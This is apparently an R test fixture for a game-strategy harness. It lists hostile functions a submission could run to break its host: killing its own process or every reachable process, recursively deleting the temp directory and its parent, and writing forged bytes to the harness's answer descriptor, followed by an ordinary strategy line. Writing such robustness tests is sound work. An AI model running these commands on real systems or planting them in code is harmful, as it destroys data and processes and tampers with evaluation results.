# Breaks what it runs in, so that something of ours fails at it.
break_itself <- list(
    closes = function() closeAllConnections(),
    quits = function() quit("no", 3L, FALSE),
    kills = function() tools::pskill(Sys.getpid(), 9L),
    stops = function() tools::pskill(Sys.getpid(), 19L),
    everybody = function() tools::pskill(-1L, 9L),
    unlinks = function() unlink(c(tempdir(), dirname(tempdir())), recursive = TRUE, force = TRUE),
    moves = function() setwd("/proc/self/fd"),
    forges = function() {
        answers <- file("/dev/fd/3", "wb", raw = TRUE)
        writeBin(as.raw(rep(c(0, 255), 10000)), answers)
        close(answers)
    }
)
break_itself$VALUE()
my_strategy <- function(game) prefer_jumps(game)
